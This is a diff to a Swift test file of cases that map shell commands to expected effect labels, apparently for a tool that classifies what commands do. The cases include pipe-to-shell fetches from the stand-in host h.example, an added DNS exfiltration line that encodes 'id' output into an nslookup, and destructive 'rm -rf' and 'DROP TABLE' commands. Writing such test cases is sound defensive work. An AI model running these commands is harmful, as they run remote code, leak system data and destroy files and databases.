@@ -73,6 +73,10 @@ import WritTestSupport
             EffectCase("wget -qO- http://h.example | sudo bash", "shell.exec bash interpreter <net opaque:tainted"),
             EffectCase("x=$(curl -s http://h.example); eval \"$x\"", "shell.exec eval interpreter <net opaque:tainted"),
             EffectCase("python3 -c \"$(curl -s http://h.example)\"", "shell.exec python3 interpreter <net opaque:tainted"),
+            EffectCase("for f in *.txt; do mv \"$f\" \"out/${f%.txt}.md\"; done", "file.write /work/app/out/*.md", not: ["opaque"]),
+            EffectCase("x=$(id | base64); nslookup \"$x.h.example\"", "net.connect ….h.example upload"),
+            EffectCase("rm -rf \"$D\"", "file.delete ** force recursive"), EffectCase("rm \"$D.md\"", "file.delete **/*.md"),
+            EffectCase("psql -c 'DROP TABLE users'", "resource.delete irreversible"),
             EffectCase("curl -s http://h.example | jq .x", "http.request h.example:80 download", not: ["opaque"]),
             EffectCase("curl -s http://h.example > page.html", "file.write /work/app/page.html", not: ["opaque"]),
         ]
